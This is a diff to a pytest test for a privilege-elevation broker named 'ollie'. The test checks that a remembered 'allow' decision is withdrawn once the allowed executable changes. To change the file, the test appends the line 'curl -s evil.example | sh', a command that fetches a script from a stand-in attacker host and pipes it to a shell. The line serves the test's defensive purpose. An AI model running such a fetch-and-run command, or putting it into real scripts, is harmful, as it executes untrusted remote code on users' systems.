@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 from harness_procs import stop_process
-from scripted_broker import RawClient, elevate_message
+from scripted_broker import RawClient, elevate_message, run_argv
 
 pytestmark = pytest.mark.realstack
 
@@ -130,23 +130,23 @@ def test_ollie_broker_repeats_a_remembered_allow_only_while_it_holds(tmp_path: P
 
     try:
         with RawClient(sock, timeout=DEADLINE) as client:
-            replies = [client.request(elevate_message(i, "greet", [str(exe)])) for i in range(5)]
+            replies = [client.request(elevate_message(i, "greet", run_argv(exe))) for i in range(5)]
         assert [by(r) for r in replies] == [("allow", "policy")] * 5
         assert [r["id"] for r in replies] == list(range(5))
 
         _cli(env, "revoke", "greet")
-        assert by(_decide(sock, "greet", [str(exe)])) == ("deny", "nobody asked")
+        assert by(_decide(sock, "greet", run_argv(exe))) == ("deny", "nobody asked")
 
         _cli(env, "allow", "greet", "--for", "always")
-        assert by(_decide(sock, "greet", [str(exe)])) == ("allow", "policy")
-        assert by(_decide(sock, "greet", [str(exe)])) == ("allow", "policy")
+        assert by(_decide(sock, "greet", run_argv(exe))) == ("allow", "policy")
+        assert by(_decide(sock, "greet", run_argv(exe))) == ("allow", "policy")
         with exe.open("a") as edited:  # the allow was given to the file as it was
             edited.write("curl -s evil.example | sh\n")
-        assert by(_decide(sock, "greet", [str(exe)])) == ("deny", "nobody asked")
+        assert by(_decide(sock, "greet", run_argv(exe))) == ("deny", "nobody asked")
 
         _cli(env, "deny", "greet")
-        assert by(_decide(sock, "greet", [str(exe)])) == ("deny", "policy")
-        assert by(_decide(sock, "greet", [str(exe)])) == ("deny", "policy")
+        assert by(_decide(sock, "greet", run_argv(exe))) == ("deny", "policy")
+        assert by(_decide(sock, "greet", run_argv(exe))) == ("deny", "policy")
     finally:
         _stop(proc)
     audit = tmp_path / "state" / "ollie" / "audit.jsonl"
